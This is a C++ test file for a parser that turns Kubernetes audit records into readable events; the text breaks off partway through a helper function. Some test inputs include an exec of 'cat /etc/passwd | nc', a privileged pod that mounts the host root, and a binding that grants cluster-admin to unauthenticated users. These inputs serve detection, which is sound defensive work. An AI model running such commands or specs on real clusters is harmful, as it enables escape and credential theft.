// SPDX-License-Identifier: Apache-2.0
#include "log/k8s_audit/reader.h"

#include <fmt/format.h>

#include <algorithm>
#include <map>

#include "base/limits.h"
#include "log/json.h"
#include "log/k8s_audit/request_uri.h"
#include "log/test_row.h"
#include "log/test_support.h"

namespace ekshume::log::k8s_audit {
namespace {

using namespace ekshume::log::testing;

// Records of the API server of a laboratory cluster.
constexpr std::string_view kExec =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"dd8c950d-f688-4ad5-a77f-bfc00b754647","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/webshop-588f958f47-hbzmh/exec?command=sh\u0026command=-c\u0026command=test+-d+%2Fsrv%2Fwebshop+-a+%21+-e+%2Fetc%2Flab-host\u0026container=webshop\u0026stderr=true\u0026stdout=true","verb":"create","user":{"username":"ci-deployer","uid":"aws-iam-authenticator:123456789012:AROAEXAMPLECI-DEPLOYER","groups":["deployers","system:authenticated"],"extra":{"accessKeyId":["AKIAEXAMPLECI0000002"],"arn":["arn:aws:iam::123456789012:user/ci-deployer"],"canonicalArn":["arn:aws:iam::123456789012:user/ci-deployer"],"sessionName":["ci-deployer"]}},"sourceIPs":["127.0.0.1"],"userAgent":"kubectl/v0.0.0 (linux/amd64) kubernetes/faecb19","objectRef":{"resource":"pods","namespace":"shop","name":"webshop-588f958f47-hbzmh","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-11-24T21:40:24.222601Z","stageTimestamp":"2026-11-24T21:40:24.340622Z","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"deployers-edit\" of ClusterRole \"cluster-admin\" to Group \"deployers\""}})";

constexpr std::string_view kAnonymousList =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"32098fcf-a6de-4bb1-84b9-18c2b1bda284","stage":"ResponseComplete","requestURI":"/api/v1/namespaces","verb":"list","user":{"username":"system:anonymous","groups":["system:unauthenticated"]},"sourceIPs":["127.0.0.1"],"userAgent":"python-requests/2.31.0","objectRef":{"resource":"namespaces","apiVersion":"v1"},"responseStatus":{"metadata":{},"status":"Failure","reason":"Forbidden","code":403},"requestReceivedTimestamp":"2026-11-24T21:40:23.106218Z","stageTimestamp":"2026-11-24T21:40:23.112185Z","annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}})";

constexpr std::string_view kNobody =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"8ac8ccd5-a69a-4464-bf1a-846cbb7ba377","stage":"ResponseStarted","requestURI":"/api/v1/pods","verb":"list","user":{},"sourceIPs":["127.0.0.1"],"userAgent":"curl/7.88.1","objectRef":{"resource":"pods","apiVersion":"v1"},"responseStatus":{"metadata":{},"status":"Failure","reason":"Unauthorized","code":401},"requestReceivedTimestamp":"2026-11-24T21:40:23.365459Z","stageTimestamp":"2026-11-24T21:40:23.369665Z"})";

constexpr std::string_view kUrl =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"94506750-8ab4-4d15-b1ef-8e72a5af791b","stage":"ResponseComplete","requestURI":"/apis","verb":"get","user":{"username":"system:anonymous","groups":["system:unauthenticated"]},"sourceIPs":["127.0.0.1"],"userAgent":"python-requests/2.31.0","responseStatus":{"metadata":{},"status":"Failure","reason":"Forbidden","code":403},"requestReceivedTimestamp":"2026-11-24T21:40:23.180406Z","stageTimestamp":"2026-11-24T21:40:23.180886Z","annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}})";

constexpr std::string_view kNodeForbidden =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"e45f2523-5e12-4d0c-a71e-ee7698ac07fd","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/secrets?fieldSelector=metadata.name%3Ddefault-token-fvql9\u0026limit=500\u0026resourceVersion=0","verb":"list","user":{"username":"system:node:ip-10-0-1-23.ec2.internal","groups":["system:nodes","system:authenticated"]},"sourceIPs":["127.0.0.1"],"userAgent":"kubelet-bin/v0.0.0 (linux/amd64) kubernetes/faecb19","objectRef":{"resource":"secrets","namespace":"shop","name":"default-token-fvql9","apiVersion":"v1"},"responseStatus":{"metadata":{},"status":"Failure","reason":"Forbidden","code":403},"requestReceivedTimestamp":"2026-11-24T21:40:20.580337Z","stageTimestamp":"2026-11-24T21:40:20.584902Z","annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":"no relationship found between node 'ip-10-0-1-23.ec2.internal' and this object"}})";

constexpr std::string_view kPodBinding =
    R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"352a8614-9bb9-44c7-adbe-a1a11689291d","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/webshop-588f958f47-hbzmh/binding","verb":"create","user":{"username":"system:kube-scheduler","groups":["system:authenticated"]},"sourceIPs":["127.0.0.1"],"userAgent":"kube-scheduler/v0.0.0 (linux/amd64) kubernetes/faecb19/scheduler","objectRef":{"resource":"pods","namespace":"shop","name":"webshop-588f958f47-hbzmh","uid":"b425c733-eff6-4f9e-aff7-0febc1222d84","apiVersion":"v1","subresource":"binding"},"responseStatus":{"metadata":{},"status":"Success","code":201},"requestObject":{"kind":"Binding","apiVersion":"v1","metadata":{"name":"webshop-588f958f47-hbzmh","namespace":"shop","uid":"b425c733-eff6-4f9e-aff7-0febc1222d84","creationTimestamp":null},"target":{"kind":"Node","name":"ip-10-0-1-23.ec2.internal"}},"responseObject":{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","code":201},"requestReceivedTimestamp":"2026-11-24T21:40:20.465039Z","stageTimestamp":"2026-11-24T21:40:20.477471Z","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole \"system:kube-scheduler\" to User \"system:kube-scheduler\""}})";

// A record that holds what the API server's own would around `members`.
std::string Made(std::string_view members) {
  return R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a1",)"
         R"("stage":"ResponseComplete","user":{"username":"alice"},"sourceIPs":["192.0.2.7"],)" +
         std::string(members) +
         R"(,"requestReceivedTimestamp":"2026-11-24T10:00:00.000000Z",)"
         R"("stageTimestamp":"2026-11-24T10:00:01.500000Z"})";
}

Event ParseOne(std::string_view record) {
  Parsed parsed;
  Parse(AuditFormat(), record, parsed);
  EXPECT_EQ(parsed.outcome, Outcome::kEvents) << record;
  EXPECT_EQ(parsed.events.size(), 1U) << record;
  EXPECT_TRUE(parsed.diagnostics.Sorted().empty());
  return parsed.events.empty() ? Event() : parsed.events.front();
}

TEST(K8sAudit, ReadsAnExecOfAnIamUser) {
  EXPECT_EQ(Row(ParseOne(kExec)), R"(time=2026-11-24T21:40:24.340622000Z
identity=dd8c950d-f688-4ad5-a77f-bfc00b754647/ResponseComplete
time_kind=Event Time
namespace=shop
pod=webshop-588f958f47-hbzmh
container=webshop
user_name=ci-deployer
user_arn=arn:aws:iam::123456789012:user/ci-deployer
access_key_id=AKIAEXAMPLECI0000002
source_ip=127.0.0.1
user_agent=kubectl/v0.0.0 (linux/amd64) kubernetes/faecb19
action=create
object_kind=pods/exec
object_name=webshop-588f958f47-hbzmh
outcome=success
command_line=sh -c 'test -d /srv/webshop -a ! -e /etc/lab-host'
record_id=dd8c950d-f688-4ad5-a77f-bfc00b754647
stage=ResponseComplete
message=ci-deployer (arn:aws:iam::123456789012:user/ci-deployer) from 127.0.0.1 ran "sh -c 'test -d /srv/webshop -a ! -e /etc/lab-host'" in pod shop/webshop-588f958f47-hbzmh container webshop, for 0.118 s
tags=level=RequestResponse
status_code=101
duration_ns=118021000
)");
}

TEST(K8sAudit, ReadsAFailedListByAnonymous) {
  EXPECT_EQ(Row(ParseOne(kAnonymousList)), R"(time=2026-11-24T21:40:23.112185000Z
identity=32098fcf-a6de-4bb1-84b9-18c2b1bda284/ResponseComplete
time_kind=Event Time
user_name=system:anonymous
source_ip=127.0.0.1
user_agent=python-requests/2.31.0
action=list
object_kind=namespaces
outcome=failure
error=Forbidden
record_id=32098fcf-a6de-4bb1-84b9-18c2b1bda284
stage=ResponseComplete
message=system:anonymous from 127.0.0.1 tried to list namespaces: 403 Forbidden
tags=anonymous level=Request
status_code=403
duration_ns=5967000
)");
}

TEST(K8sAudit, ReadsARequestWithoutUser) {
  EXPECT_EQ(Row(ParseOne(kNobody)), R"(time=2026-11-24T21:40:23.369665000Z
identity=8ac8ccd5-a69a-4464-bf1a-846cbb7ba377/ResponseStarted
time_kind=Event Time
source_ip=127.0.0.1
user_agent=curl/7.88.1
action=list
object_kind=pods
outcome=failure
error=Unauthorized
record_id=8ac8ccd5-a69a-4464-bf1a-846cbb7ba377
stage=ResponseStarted
message=somebody from 127.0.0.1 tried to list pods in all namespaces: 401 Unauthorized
tags=level=Request
status_code=401
duration_ns=4206000
)");
}

TEST(K8sAudit, ReadsANonResourceUrl) {
  EXPECT_EQ(Row(ParseOne(kUrl)), R"(time=2026-11-24T21:40:23.180886000Z
identity=94506750-8ab4-4d15-b1ef-8e72a5af791b/ResponseComplete
time_kind=Event Time
user_name=system:anonymous
source_ip=127.0.0.1
user_agent=python-requests/2.31.0
action=get
object_kind=url
object_name=/apis
outcome=failure
error=Forbidden
record_id=94506750-8ab4-4d15-b1ef-8e72a5af791b
stage=ResponseComplete
message=system:anonymous from 127.0.0.1 tried to request /apis: 403 Forbidden
tags=anonymous level=Request
status_code=403
duration_ns=480000
)");
}

TEST(K8sAudit, KeepsTheReasonOfADenial) {
  EXPECT_EQ(Row(ParseOne(kNodeForbidden)), R"(time=2026-11-24T21:40:20.584902000Z
identity=e45f2523-5e12-4d0c-a71e-ee7698ac07fd/ResponseComplete
time_kind=Event Time
namespace=shop
user_name=system:node:ip-10-0-1-23.ec2.internal
source_ip=127.0.0.1
user_agent=kubelet-bin/v0.0.0 (linux/amd64) kubernetes/faecb19
action=list
object_kind=secrets
object_name=default-token-fvql9
outcome=failure
error=Forbidden
record_id=e45f2523-5e12-4d0c-a71e-ee7698ac07fd
stage=ResponseComplete
message=system:node:ip-10-0-1-23.ec2.internal from 127.0.0.1 tried to list secret shop/default-token-fvql9: 403 Forbidden (no relationship found between node 'ip-10-0-1-23.ec2.internal' and this object)
tags=level=Metadata
status_code=403
duration_ns=4565000
)");
}

TEST(K8sAudit, ReadsOnWhichNodeAPodWasPlaced) {
  EXPECT_EQ(Row(ParseOne(kPodBinding)), R"(time=2026-11-24T21:40:20.477471000Z
identity=352a8614-9bb9-44c7-adbe-a1a11689291d/ResponseComplete
time_kind=Event Time
node=ip-10-0-1-23.ec2.internal
namespace=shop
pod=webshop-588f958f47-hbzmh
pod_uid=b425c733-eff6-4f9e-aff7-0febc1222d84
user_name=system:kube-scheduler
source_ip=127.0.0.1
user_agent=kube-scheduler/v0.0.0 (linux/amd64) kubernetes/faecb19/scheduler
action=create
object_kind=pods/binding
object_name=webshop-588f958f47-hbzmh
outcome=success
record_id=352a8614-9bb9-44c7-adbe-a1a11689291d
stage=ResponseComplete
message=system:kube-scheduler from 127.0.0.1 placed pod shop/webshop-588f958f47-hbzmh on node ip-10-0-1-23.ec2.internal
tags=level=RequestResponse
status_code=201
duration_ns=12432000
)");
}

TEST(K8sAudit, ReadsAnEksIdentity) {
  const Event event = ParseOne(
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a2","stage":)"
      R"("ResponseComplete","requestURI":"/api/v1/secrets","verb":"list","user":{"username":)"
      R"("arn:aws:sts::123456789012:assumed-role/Admin/bob-example.test","uid":)"
      R"("aws-iam-authenticator:123456789012:AROAEXAMPLE","groups":["system:authenticated"],"extra":)"
      R"({"accessKeyId":["ASIAEXAMPLE"],"arn":["arn:aws:sts::123456789012:assumed-role/Admin/bob@example.test"],)"
      R"("canonicalArn":["arn:aws:iam::123456789012:role/Admin"],"sessionName":["bob@example.test"]}},)"
      R"("sourceIPs":["203.0.113.9","10.0.0.4"],"objectRef":{"resource":"secrets","apiVersion":"v1"},)"
      R"("responseStatus":{"code":200},"stageTimestamp":"2026-11-24T10:00:01Z","annotations":)"
      R"({"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"EKS Access Policy: )"
      R"(allowed by ClusterRoleBinding \"arn:aws:iam::123456789012:role/Admin+arn:aws:eks::aws:)"
      R"(cluster-access-policy/AmazonEKSClusterAdminPolicy\" of ClusterRole \"x\" to User \"AROAEXAMPLE\""}})");
  EXPECT_EQ(Row(event), R"(time=2026-11-24T10:00:01.000000000Z
identity=a2/ResponseComplete
time_kind=Event Time
user_name=arn:aws:sts::123456789012:assumed-role/Admin/bob-example.test
user_arn=arn:aws:sts::123456789012:assumed-role/Admin/bob@example.test
access_key_id=ASIAEXAMPLE
source_ip=203.0.113.9
action=list
object_kind=secrets
outcome=success
record_id=a2
stage=ResponseComplete
message=arn:aws:sts::123456789012:assumed-role/Admin/bob-example.test (arn:aws:sts::123456789012:assumed-role/Admin/bob@example.test) from 203.0.113.9 listed secrets in all namespaces, allowed by access policy AmazonEKSClusterAdminPolicy
tags=peer_ip=10.0.0.4 level=Metadata access_policy=AmazonEKSClusterAdminPolicy
status_code=200
)");
}

TEST(K8sAudit, ReadsThePodBehindATokenAndWhomItActsAs) {
  const Event event = ParseOne(Made(
      R"("verb":"get","user":{"username":"system:serviceaccount:shop:web","extra":)"
      R"({"authentication.kubernetes.io/credential-id":["JTI=7d1b"],)"
      R"("authentication.kubernetes.io/node-name":["ip-10-0-1-23"],)"
      R"("authentication.kubernetes.io/pod-name":["web-1"],)"
      R"("authentication.kubernetes.io/pod-uid":["b0a1"]}},"impersonatedUser":{"username":"root me"},)"
      R"("objectRef":{"resource":"configmaps","namespace":"shop","name":"app"},"responseStatus":{"code":200})"));
  EXPECT_EQ(event[Text::kServiceAccount], "shop/web");
  EXPECT_EQ(event[Text::kCredentialId], "JTI=7d1b");
  EXPECT_EQ(event[Text::kPod], "");
  EXPECT_EQ(event[Text::kTags],
            "impersonated=root_me actor_pod=web-1 actor_pod_uid=b0a1 actor_node=ip-10-0-1-23 "
            "level=RequestResponse");
  EXPECT_EQ(event[Text::kMessage],
            "system:serviceaccount:shop:web (token of pod web-1) acting as root me from 192.0.2.7 "
            "read configmap shop/app");
}

TEST(K8sAudit, ReadsWhatACreatedPodMayDo) {
  const Event event = ParseOne(Made(
      R"("verb":"create","objectRef":{"resource":"pods","namespace":"shop"},"responseStatus":{"code":201},)"
      R"("requestObject":{"kind":"Pod","metadata":{"generateName":"evil-"},"spec":{"hostPID":true,)"
      R"("hostNetwork":true,"hostIPC":true,"nodeName":"n1","serviceAccountName":"admin","volumes":)"
      R"([{"name":"a","hostPath":{"path":"/","type":""}},{"name":"b","emptyDir":{}}],"initContainers":)"
      R"([{"image":"i:1","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_RAW"]}}}],"containers":)"
      R"([{"name":"c","image":"c:1","command":["sh","-c"],"args":["id; whoami"],"securityContext":)"
      R"({"privileged":true}}]}},"responseObject":{"kind":"Pod","metadata":{"name":"evil-x7k2p","uid":"u-1"}})"));
  EXPECT_EQ(Row(event), R"(time=2026-11-24T10:00:01.500000000Z
identity=a1/ResponseComplete
time_kind=Event Time
node=n1
namespace=shop
pod=evil-x7k2p
pod_uid=u-1
image=c:1
user_name=alice
source_ip=192.0.2.7
action=create
object_kind=pods
object_name=evil-x7k2p
outcome=success
command_line=sh -c 'id; whoami'
record_id=a1
stage=ResponseComplete
message=alice from 192.0.2.7 created pod shop/evil-x7k2p (privileged, host's processes, host's network, host's IPC, host path /, capability SYS_ADMIN, capability NET_RAW, image i:1, image c:1, runs "sh -c 'id; whoami'")
tags=level=RequestResponse privileged host_pid host_network host_ipc host_path=/ cap_add=SYS_ADMIN cap_add=NET_RAW pod_service_account=admin
status_code=201
duration_ns=1500000000
)");
}

TEST(K8sAudit, ReadsThePodTemplateOfWorkloads) {
  const std::string pod =
      R"({"containers":[{"image":"c:1","securityContext":{"privileged":true}}]})";
  for (const std::string& spec :
       {R"({"template":{"spec":)" + pod + "}}",
        R"({"jobTemplate":{"spec":{"template":{"spec":)" + pod + "}}}}"}) {
    const Event event = ParseOne(
        Made(R"("verb":"create","objectRef":{"resource":"x","namespace":"shop","name":"w"},)"
             R"("responseStatus":{"code":201},"requestObject":{"spec":)" +
             spec + "}"));
    EXPECT_EQ(event[Text::kTags], "level=RequestResponse privileged");
    EXPECT_EQ(event[Text::kImage], "c:1");
  }
}

TEST(K8sAudit, ReadsPatches) {
  const std::string object =
      R"("verb":"patch","objectRef":{"resource":"deployments","namespace":"shop","name":"w"},"responseStatus":{"code":200},)";
  const Event operations = ParseOne(Made(
      object +
      R"("requestObject":[{"op":"add","path":"/spec/template/spec/hostPID","value":true},)"
      R"({"op":"add","path":"/spec/template/spec/volumes/-","value":{"hostPath":{"path":"/etc"}}},)"
      R"({"op":"replace","path":"/spec/template/spec/containers/0/image","value":"bad:1"},)"
      R"({"op":"add","path":"/spec/template/spec/containers/0/securityContext/capabilities/add/0","value":"BPF"}])"));
  EXPECT_EQ(operations[Text::kTags], "level=RequestResponse host_pid host_path=/etc cap_add=BPF");
  EXPECT_EQ(operations[Text::kImage], "bad:1");
  const Event merge = ParseOne(Made(
      object +
      R"("requestObject":{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"a"}],"containers":[{"image":"new:2","name":"a"}]}}}})"));
  EXPECT_EQ(merge[Text::kMessage], "alice from 192.0.2.7 patched deployment shop/w (image new:2)");
  // The result tells what a patch in an odd order of members did.
  const Event result = ParseOne(
      Made(object +
           R"("requestObject":[{"value":true,"op":"add","path":"/spec/template/spec/hostPID"}],)"
           R"("responseObject":{"spec":{"template":{"spec":{"hostPID":true}}}})"));
  EXPECT_EQ(result[Text::kTags], "level=RequestResponse host_pid");
}

TEST(K8sAudit, NamesRoleAndSubjectsOfABinding) {
  const Event event = ParseOne(Made(
      R"("verb":"create","objectRef":{"resource":"clusterrolebindings","name":"b"},"responseStatus":{"code":201},)"
      R"("requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[)"
      R"({"kind":"ServiceAccount","namespace":"shop","name":"web"},{"kind":"Group","name":"system:unauthenticated"}]})"));
  EXPECT_EQ(event[Text::kMessage],
            "alice from 192.0.2.7 created clusterrolebinding b, which gives ClusterRole "
            "cluster-admin to ServiceAccount shop/web, Group system:unauthenticated");
  EXPECT_EQ(event[Text::kTags],
            "level=RequestResponse role=cluster-admin subject=web subject=system:unauthenticated");
}

TEST(K8sAudit, ReadsTokenRequests) {
  const Event event = ParseOne(Made(
      R"("verb":"create","objectRef":{"resource":"serviceaccounts","subresource":"token","namespace":"shop","name":"web"},)"
      R"("responseStatus":{"code":201},"requestObject":{"spec":{"audiences":["sts.amazonaws.com"],"expirationSeconds":3607,)"
      R"("boundObjectRef":{"kind":"Pod","name":"web-1","uid":"u-1"}}},)"
      R"("annotations":{"authentication.kubernetes.io/issued-credential-id":"JTI=99"})"));
  EXPECT_EQ(event[Text::kObjectKind], "serviceaccounts/token");
  EXPECT_EQ(event[Text::kPod], "web-1");
  EXPECT_EQ(event[Text::kPodUid], "u-1");
  EXPECT_EQ(event[Text::kTags],
            "level=RequestResponse issued_credential=JTI=99 expiration_seconds=3607");
  EXPECT_EQ(event[Text::kMessage],
            "alice from 192.0.2.7 got a token of service account shop/web for Pod web-1, valid for "
            "3607 s");
}

TEST(K8sAudit, SaysWhatSubresourcesMean) {
  const auto sentence = [](std::string_view resource, std::string_view sub, std::string_view verb,
                           std::string_view uri = "") {
    return ParseOne(Made(R"("verb":")" + std::string(verb) + R"(","requestURI":")" +
                         std::string(uri) + R"(","objectRef":{"resource":")" +
                         std::string(resource) + R"(","namespace":"n","name":"p","subresource":")" +
                         std::string(sub) + R"("},"responseStatus":{"code":200})"))[Text::kMessage]
        .substr(std::string_view("alice from 192.0.2.7 ").size());
  };
  EXPECT_EQ(sentence("pods", "attach", "create", "/x?container=app&stdin=true"),
            "attached to pod n/p container app, for 1.500 s");
  EXPECT_EQ(sentence("pods", "portforward", "get"), "forwarded a port of pod n/p, for 1.500 s");
  EXPECT_EQ(sentence("pods", "log", "get", "/x?container=app"),
            "read the log of pod n/p container app");
  EXPECT_EQ(sentence("pods", "eviction", "create"), "evicted pod n/p");
  EXPECT_EQ(sentence("pods", "ephemeralcontainers", "patch"),
            "added an ephemeral container to pod n/p");
  EXPECT_EQ(sentence("services", "proxy", "get"),
            "sent a request through the API server to service n/p");
  EXPECT_EQ(sentence("deployments", "status", "update"), "updated the status of deployment n/p");
  EXPECT_EQ(sentence("ingresses", "", "delete"), "deleted ingress n/p");
  EXPECT_EQ(sentence("networkpolicies", "", "approve"), "did \"approve\" on networkpolicy n/p");
}

TEST(K8sAudit, TellsListsOfAllNamespaces) {
  const auto sentence = [](std::string_view reference) {
    return ParseOne(Made(R"("verb":"list","objectRef":{)" + std::string(reference) +
                         R"(},"responseStatus":{"code":200})"))[Text::kMessage];
  };
  EXPECT_EQ(sentence(R"("resource":"secrets")"),
            "alice from 192.0.2.7 listed secrets in all namespaces");
  EXPECT_EQ(sentence(R"("resource":"secrets","namespace":"kube-system")"),
            "alice from 192.0.2.7 listed secrets in kube-system");
  EXPECT_EQ(sentence(R"("resource":"nodes")"), "alice from 192.0.2.7 listed nodes");
}

TEST(K8sAudit, ReadsStagesAndOutcomes) {
  const std::string received =
      R"({"apiVersion":"audit.k8s.io/v1","auditID":"a3","stage":"RequestReceived","verb":"delete",)"
      R"("objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"},)"
      R"("requestReceivedTimestamp":"2026-11-24T10:00:00Z","stageTimestamp":"2026-11-24T10:00:01Z"})";
  EXPECT_EQ(Row(ParseOne(received)), R"(time=2026-11-24T10:00:00.000000000Z
identity=a3/RequestReceived
time_kind=Event Time
namespace=shop
action=delete
object_kind=namespaces
object_name=shop
outcome=unknown
record_id=a3
stage=RequestReceived
message=somebody asked to delete namespace shop
)");
  const Event panic = ParseOne(
      R"({"apiVersion":"audit.k8s.io/v1","auditID":"a3","stage":"Panic","verb":"get","requestURI":"/x"})");
  EXPECT_EQ(panic[Text::kOutcome], "failure");
  EXPECT_EQ(panic[Text::kError], "Panic");
  EXPECT_EQ(panic[Text::kMessage], "somebody tried to request /x: Panic");
  EXPECT_FALSE(panic.time);
}

// audit2rbac's demo.log of 2017 (Apache-2.0): no request or stage times, an impersonated user.
TEST(K8sAudit, ReadsRecordsOfTheFirstVersions) {
  const Event event = ParseOne(
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1alpha1","metadata":{"creationTimestamp":"2017-09-11T19:55:05Z"},)"
      R"("level":"Metadata","timestamp":"2017-09-11T19:55:05Z","auditID":"033d17af","stage":"ResponseComplete",)"
      R"("requestURI":"/api/v1/namespaces/default/pods","verb":"list","user":{"username":"system:admin"},)"
      R"("impersonatedUser":{"username":"bob"},"sourceIPs":["::1"],"objectRef":{"resource":"pods","namespace":"default"},)"
      R"("responseStatus":{"metadata":{},"status":"Failure","message":"pods is forbidden","reason":"Forbidden","code":403}})");
  EXPECT_EQ(Row(event), R"(time=2017-09-11T19:55:05.000000000Z
identity=033d17af/ResponseComplete
time_kind=Event Time
namespace=default
user_name=system:admin
source_ip=::1
action=list
object_kind=pods
outcome=failure
error=Forbidden
record_id=033d17af
stage=ResponseComplete
message=system:admin acting as bob from ::1 tried to list pods in default: 403 Forbidden
tags=impersonated=bob level=Metadata
status_code=403
)");
}

TEST(K8sAudit, ReadsGoogleCloudRecords) {
  const Event event = ParseOne(
      R"({"insertId":"i","labels":{"authorization.k8s.io/decision":"allow"},"logName":"projects/p/logs/x",)"
      R"("operation":{"id":"85371f7c","producer":"k8s.io"},"protoPayload":{"@type":)"
      R"("type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"eve@example.test"},)"
      R"("methodName":"io.k8s.core.v1.pods.create","requestMetadata":{"callerIp":"203.0.113.5","callerSuppliedUserAgent":"kubectl"},)"
      R"("request":{"kind":"Pod","spec":{"hostPID":true,"containers":[{"image":"c:1"}]}},)"
      R"("resourceName":"core/v1/namespaces/shop/pods/web-1","serviceName":"k8s.io","status":{}},)"
      R"("resource":{"labels":{"cluster_name":"prod"},"type":"k8s_cluster"},"timestamp":"2024-01-01T01:00:00.5Z"})");
  EXPECT_EQ(Row(event), R"(time=2024-01-01T01:00:00.500000000Z
identity=85371f7c/
time_kind=Event Time
cluster=prod
namespace=shop
pod=web-1
image=c:1
user_name=eve@example.test
source_ip=203.0.113.5
user_agent=kubectl
action=create
object_kind=pods
object_name=web-1
outcome=success
record_id=85371f7c
message=eve@example.test from 203.0.113.5 created pod shop/web-1 (host's processes, image c:1)
tags=host_pid
status_code=200
)");
  Parsed other;
  Parse(
      AuditFormat(),
      R"({"insertId":"i","protoPayload":{"methodName":"beta.compute.networks.insert","x":"io.k8s."}})",
      other);
  EXPECT_EQ(other.outcome, Outcome::kNotMine);
}

TEST(K8sAudit, ReadsAzureRecords) {
  const std::string inner = Made(R"("verb":"get","objectRef":{"resource":"nodes","name":"n1"})");
  std::string escaped;
  for (const char c : inner) {
    if (c == '"') escaped += '\\';
    escaped += c;
  }
  const std::string head =
      R"({"category":"kube-audit","operationName":"Microsoft.ContainerService/managedClusters/diagnosticLogs/Read","properties":{"log":)";
  const std::string tail = R"(,"pod":"kube-apiserver-1"},"time":"2026-11-24T10:00:02Z"})";
  for (const std::string& log : {inner, '"' + escaped + '"'}) {
    const std::string record = fmt::format("{}{}{}", head, log, tail);
    EXPECT_EQ(AuditFormat().Sniff(record), Match::kYes);
    const Event event = ParseOne(record);
    EXPECT_EQ(event[Text::kMessage], "alice from 192.0.2.7 read node n1");
    EXPECT_EQ(event[Text::kNode], "n1");
  }
}

TEST(K8sAudit, ReadsWhatIsLeftOfACutRecord) {
  Parsed parsed;
  const std::string cut(kExec.substr(0, 420));
  Parse(AuditFormat(), cut, parsed);
  EXPECT_EQ(parsed.outcome, Outcome::kDamaged);
  const std::optional<std::string> mended = MendJson(cut + "[Truncated...]");
  ASSERT_TRUE(mended);
  const Event event = ParseOne(*mended);
  EXPECT_EQ(event[Text::kAction], "create");
  EXPECT_EQ(event[Text::kRecordId], "dd8c950d-f688-4ad5-a77f-bfc00b754647");
  EXPECT_EQ(event[Text::kOutcome], "unknown");
}

TEST(K8sAudit, KnowsItsRecords) {
  EXPECT_EQ(AuditFormat().Sniff(kExec), Match::kYes);
  EXPECT_EQ(AuditFormat().Sniff(kUrl), Match::kYes);
  EXPECT_EQ(AuditFormat().Sniff(R"({"auditID":1})"), Match::kMaybe);
  for (const std::string_view other :
       {R"({"kind":"Event","apiVersion":"v1","reason":"Killing"})", R"({"eventVersion":"1.08"})",
        R"({"message":"{\"auditID\":\"x\",\"stage\":\"y\"}"})", R"({"kind":0})", "text", ""}) {
    EXPECT_EQ(AuditFormat().Sniff(other), Match::kNo) << other;
    Parsed parsed;
    Parse(AuditFormat(), other, parsed);
    EXPECT_EQ(parsed.outcome, Outcome::kNotMine) << other;
  }
}

TEST(K8sAudit, ReadsAHugeTimeAndRefusesADurationThatDoesNotFit) {
  const Event event = ParseOne(
      R"({"apiVersion":"audit.k8s.io/v1","auditID":"a","stage":"ResponseComplete",)"
      R"("requestReceivedTimestamp":"0001-01-01T00:00:00Z","stageTimestamp":"9999-12-31T23:59:59Z"})");
  EXPECT_TRUE(event.time);
  EXPECT_FALSE(event[Number::kDurationNs]);
}

TEST(ReadExecRequest, DecodesTheArguments) {
  const ExecRequest request = ReadExecRequest(
      "/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=cat+%2Fetc%2Fpasswd+%7C+nc%2"
      "&container=a%20b&stdin=true&tty=1&x");
  EXPECT_EQ(request.command_line, "sh -c 'cat /etc/passwd | nc%2'");
  EXPECT_EQ(request.container, "a b");
  EXPECT_TRUE(request.standard_input);
  EXPECT_TRUE(request.terminal);
  EXPECT_EQ(ReadExecRequest("/healthz").command_line, "");
}

TEST(K8sAudit, CutsACommandLineAtkMaxArguments) {
  std::string uri = "/x?";
  std::string list;
  for (size_t i = 0; i <= limits::kMaxArguments; ++i) {
    uri += "command=a&";
    list += R"("a",)";
  }
  list.pop_back();
  for (const std::string& record :
       {Made(R"("verb":"create","requestURI":")" + uri +
             R"(","objectRef":{"resource":"pods","subresource":"exec","name":"p"})"),
        Made(
            R"("verb":"create","objectRef":{"resource":"pods","name":"p"},"requestObject":{"spec":)"
            R"({"containers":[{"image":"c","command":[)" +
            list + "]}]}}")}) {
    Parsed parsed;
    Parse(AuditFormat(), record, parsed);
    ASSERT_EQ(parsed.events.size(), 1U);
    EXPECT_EQ(parsed.events[0][Text::kCommandLine].size(), 2 * limits::kMaxArguments - 1);
    EXPECT_EQ(parsed.diagnostics.Count(DiagnosticCode::kLogLimit), 1U);
  }
}

TEST(K8sAudit, SurvivesEveryDamage) { ParseEveryDamage(AuditFormat(), kUrl); }

// The lines of a file beside the project, each as a record.
void ParseLines(const std::string& text, Parsed& parsed) {
  for (std::string_view rest = text; !rest.empty();) {
    const std::string_view line = rest.substr(0, rest.find('\n'));
    rest.remove_prefix(std::min(line.size() + 1, rest.size()));
    const size_t before = parsed.events.size();
    Parse(AuditFormat(), line, parsed);
    ASSERT_EQ(parsed.outcome, Outcome::kEvents) << line;
    ASSERT_EQ(parsed.events.size(), before + 1) << line;
    ASSERT_TRUE(parsed.events.back().time) << line;
